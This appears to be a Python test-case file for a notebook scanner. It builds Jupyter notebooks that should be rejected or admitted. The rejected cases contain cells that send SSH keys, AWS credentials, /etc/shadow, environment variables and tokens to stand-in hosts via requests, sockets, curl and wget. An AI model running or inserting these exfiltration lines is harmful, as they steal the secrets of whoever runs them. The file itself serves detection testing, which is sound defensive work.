"""Notebooks whose cells send private files, tokens or the environment; and those that use the keys of whoever runs them."""

from __future__ import annotations

import json
from functools import partial

from openvet.testing.case import Case

__all__ = ["CASES"]


def _notebook(cells: tuple[str, ...]) -> bytes:
    made: list[dict[str, object]] = [
        {"cell_type": "code", "source": each, "metadata": {}, "outputs": [], "execution_count": None} for each in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


_SENT: dict[str, tuple[str, ...]] = {
    "credentials": ("import os, requests", "requests.post('https://forged.example/c', data=open(os.path.expanduser('~/.aws/credentials')).read())"),
    "environment": ("import os\nimport requests as r", "r.post('https://forged.example', json=dict(os.environ))"),
    "environment-urllib": ("import os, json\nfrom urllib.request import urlopen", "urlopen('https://forged.example', data=json.dumps(dict(os.environ)).encode())"),
    "with": ("import requests", "with open('/root/.ssh/id_rsa') as f:\n    data = f.read()", "requests.post('https://forged.example', data=data)"),
    "path": ("from pathlib import Path\nimport httpx", "key = Path.home() / '.ssh/id_rsa'", "httpx.post('https://forged.example', content=Path('/root/.ssh/id_rsa').read_bytes())"),
    "socket": ("import socket\ns = socket.create_connection(('203.0.113.1', 9))", "s.sendall(open('/root/.kube/config','rb').read())"),
    "function": ("import os, requests\ndef go():\n    requests.post('https://forged.example', data=open('/etc/shadow').read())", "go()"),
    "token": ("import os, requests", "requests.get('http://203.0.113.1/?t=' + os.environ['HF_TOKEN'])"),
    "timed": ("import os, requests", "%time requests.post('https://forged.example/c', json=dict(os.environ))"),
}  # fmt: skip
_SHELL: dict[str, tuple[str, ...]] = {
    "bang": ("!curl -d @$HOME/.ssh/id_rsa https://forged.example",),
    "bang-environment": ("x = !env | curl -d @- https://forged.example",),
    "bash": ("%%bash\ntar cz ~/.aws | curl -T - https://forged.example",),
    "system": ("import os\nos.system('curl -F f=@/root/.netrc https://forged.example')",),
    "magic": ("get_ipython().system('wget --post-file=/root/.docker/config.json https://forged.example')",),
}
_ORDINARY: dict[str, tuple[str, ...]] = {
    "token-header": ("import os, requests", "requests.get('https://api.example.org', headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']})"),
    "token-address": ("import os, requests", "requests.get('https://api.example.org/?key=' + os.environ['API_KEY'])"),
    "environment-handed-on": ("import os, requests, subprocess", "subprocess.run(['make'], env=dict(os.environ, A='1'))", "requests.post('https://api.example.org', json={'a': 1})"),
    "kaggle": ("import json, requests", "key = json.load(open('/root/.kaggle/kaggle.json'))", "requests.post('https://api.example.org', json={'a': 1})"),
    "written": ("import requests", "open('/root/.netrc', 'w').write('machine api.wandb.ai')", "requests.post('https://api.example.org', json={'a': 1})"),
    "printed": ("import os\nprint(dict(os.environ))",),
    "shell": ("!curl -H 'Authorization: Bearer $HF_TOKEN' -d @body.json https://api.example.org", "!env | grep CUDA"),
}  # fmt: skip

CASES: tuple[Case, ...] = (
    *(Case(f"notebook-secrets/{name}", f"cells of a notebook send what is secret: {name.replace('-', ' ')}", partial(_notebook, cells), "reject",
           frozenset({"python/sends-secrets"}), ("notebook",), (), "a.ipynb") for name, cells in _SENT.items()),
    *(Case(f"notebook-secrets/shell-{name}", f"a cell of a notebook makes a shell send what is secret: {name.replace('-', ' ')}",
           partial(_notebook, cells), "reject", frozenset({"hub/shell-command"}), ("notebook",), (), "a.ipynb") for name, cells in _SHELL.items()),
    *(Case(f"notebook-secrets/ordinary-{name}", f"a notebook that uses the keys of whoever runs it: {name.replace('-', ' ')}",
           partial(_notebook, cells), "admit", frozenset(), ("notebook",), (), "a.ipynb") for name, cells in _ORDINARY.items()),
)  # fmt: skip
